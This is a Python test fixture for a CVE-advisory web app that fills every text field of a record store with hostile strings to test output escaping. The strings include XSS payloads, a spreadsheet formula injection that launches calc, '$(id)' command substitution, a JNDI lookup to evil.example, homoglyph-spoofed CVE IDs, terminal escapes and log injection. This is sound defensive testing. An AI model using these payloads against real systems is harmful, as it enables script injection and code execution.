"""Text that hostile documents carry (TRUST B38 to B81), and a store with it in every field that text can reach."""

from __future__ import annotations

from datetime import UTC, date, datetime
from pathlib import Path

from advisories.observation import (
    CellObservation,
    CveObservation,
    ErratumObservation,
    FixedVersion,
    LinkObservation,
    MitigationObservation,
    Observation,
    Reference,
    SeverityClaim,
    UpstreamFix,
    UpstreamPoint,
)
from advisories.words import Status
from bot.app import App
from tests.bot.web.stores import CVE, make_app, take

STRINGS = (
    "<script>alert(1)</script>",
    '"><svg/onload=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "tg://user?id=1",
    "CVE-2026-\u202e13413",
    "CVE-2026-31\u200b431",
    "\u0421VE-2026-31431",
    "CVE\u20112026\u201131431",
    "CVE-2026-\u0663\u0661\uff14",
    "https://git.kernel.org@evil.example/x",
    "https://xn--git-kernel.example/",
    "a\x08b\x0bc\x1bd\ufffee",
    "Z" + "\u0301" * 300,
    "\x1b[31mred\x1b[0m",
    "one\nfake log line level=error",
    "@room @everyone <!channel> [x](tg://user?id=1)",
    "[safe](https://evil.example) ![](https://evil.example/b.png) ||x|| *_`",
    "<a@b.c>",
    "a < b && c > d",
    "<p><ul><br>",
    "-.!",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "=cmd|' /C calc'!A0",
    "$(id) ${jndi:ldap://evil.example/a} {{7*7}} {% raw %}",
    "]]><!--",
    "x" * 5000,
)
AT = datetime(2026, 5, 1, tzinfo=UTC)


def hostile_app(folder: Path) -> App:
    """A store of CVE-2026-31431 whose every field of text is hostile; one cell, erratum and carrier for each string."""
    app = make_app(folder, PATCHWATCH_WEB_BASE_URL="https://pw.example.org")
    text = " ".join(STRINGS)
    take(app, "kernel-cna", AT, CVE, [_record(text)])
    for number, one in enumerate(STRINGS):
        take(app, "debian", AT, f"{CVE}/{number}", _claims(one, number), url=f"https://evil.example/{number}")
    return app


def _record(text: str) -> CveObservation:
    return CveObservation(
        cve=CVE,
        opens=True,
        title=text,
        description=text,
        published=AT,
        severity=(SeverityClaim(vector=text[:90], score=7.8, level=None, word=STRINGS[0]),),
        cwe=(STRINGS[1],),
        introduced=(UpstreamPoint(version=STRINGS[0], commit=STRINGS[1]),),
        fixed=(UpstreamFix(branch=STRINGS[1], version=STRINGS[0], commit=STRINGS[2]),),
        files=STRINGS,
        references=tuple(Reference(url=one, tag=one) for one in STRINGS),
    )


def _claims(one: str, number: int) -> list[Observation]:
    fixed = FixedVersion(version=one, branch=one[:20], erratum=one, date=date(2026, 5, 1))
    name = one[:60]
    return [
        CellObservation(
            cve=CVE,
            distro=name,
            release=name,
            package=name,
            status=Status.FIXED if number % 2 else Status.AFFECTED,
            stream=one[:30],
            codename=one,
            programmes=(one,),
            justification=one,
            fixed=(fixed,) if number % 2 else (),
            errata=(one,),
            vendor_status=one,
            note=one,
        ),
        ErratumObservation(erratum=one[:90], distro=name, title=one, cves=(CVE,), url=one),
        MitigationObservation(
            cve=CVE, mitigation=name, title=one, distro=name, release=name, package=name, version=one, erratum=one
        ),
        LinkObservation(title=one, url=one, published=AT, summary=one),
    ]
